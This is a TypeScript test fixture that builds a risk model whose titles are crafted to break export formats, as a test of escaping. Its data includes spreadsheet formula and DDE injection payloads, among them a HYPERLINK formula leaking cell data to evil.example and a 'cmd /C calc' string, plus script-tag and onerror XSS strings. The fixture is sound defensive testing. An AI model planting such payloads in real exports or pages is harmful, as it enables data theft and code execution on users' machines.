/**
 * A model whose texts try to break every export format: commas, quotes, line
 * breaks, pipes, formula starters, HTML and Markdown syntax, non-Latin scripts.
 */
import type { LoadedModel } from '../../../language/model/load-model.js';
import { loadTexts } from './load-texts.js';

export const HOSTILE_AS_OF = '2026-11-23';

/** Risk ID -> the title as the model means it (after the string's escapes). */
export const HOSTILE_TITLES: Readonly<Record<string, string>> = {
    'H-01': 'Comma, separated, title',
    'H-02': 'She said "hello" and left',
    'H-03': 'First line\nsecond line\r\nthird line',
    'H-04': 'Pipe | in | the | title',
    'H-05': '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    'H-06': '+SUM(1,2)',
    'H-07': '-2+3+cmd|\' /C calc\'!A0',
    'H-08': '@SUM(A1:A9)',
    'H-09': '\tTabbed title',
    'H-10': '\rCarriage return title',
    'H-11': 'Утечка данных — 顧客データ漏洩 — Διαρροή δεδομένων — 🔐',
    'H-12': '<script>alert(1)</script> & <b>bold</b>',
    'H-13': 'Backslash \\| escape attempt \\',
    'H-14': '[link](javascript:alert(1)) **bold** `code` ~~gone~~ _em_',
    'H-15': '\0NUL first',
    // Blank first, formula after: a spreadsheet that trims spaces on import (LibreOffice's "Trim spaces") sees the formula.
    'H-16': ' =1+1',
    'H-17': '   +SUM(2,3)',
    'H-18': '\u00A0-4+5',
    'H-19': '\u3000@SUM(6,7)',
    'H-20': ' \t=8+9'
};

/** The model text of a title: the STRING escapes of the language. */
function riskString(title: string): string {
    // Written as themselves: the language has no \u escape, and a string may hold any character.
    return `"${title.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\t/g, '\\t').replace(/\r/g, '\\r').replace(/\0/g, '\\0')}"`;
}

export const HOSTILE_ACTION_TITLE = '=cmd|"/C calc"!A0 | <img src=x onerror=alert(1)>\nnext line';
export const HOSTILE_PARTY = '-Insurer, "Quoted" | <i>Ltd</i>';

export function hostileTexts(): Record<string, string> {
    const risks = Object.entries(HOSTILE_TITLES).map(([id, title], index) => `
risk ${id} ${riskString(title)} {
  owner Owner
  scope S
  threat T
  on Sys
  likelihood ${(index % 3) + 1}
  impact ${((index + 1) % 3) + 1}
  ${index === 0 ? `treatment share with ${riskString(HOSTILE_PARTY)} { action ${riskString(HOSTILE_ACTION_TITLE)} { owner Owner due 2026-12-01 status planned controls A.5.1 } }` : ''}
  status assessed
  reviewed 2026-11-01
}`);
    return {
        'method.risk': `
method "Hostile | <b>method</b> \\"=1+1\\"" {
  scale likelihood { 1 Rare "" 2 Possible "" 3 Likely "" }
  scale impact { 1 Minor "" 2 Noticeable "" 3 Severe "" }
  score likelihood * impact
  levels { Low 1..2 "" Moderate 3..4 "" High 6..9 "" }
  accept { appetite Moderate major High }
}
role Owner "Owner" management
scope S "Scope"
asset Data "Data" { primary information owner Owner }
asset Sys "System" { supporting system owner Owner supports Data }
threat T "Threat"
`,
        'risks/hostile.risk': risks.join('\n')
    };
}

export async function loadHostileModel(): Promise<LoadedModel> {
    return loadTexts(hostileTexts(), HOSTILE_AS_OF);
}
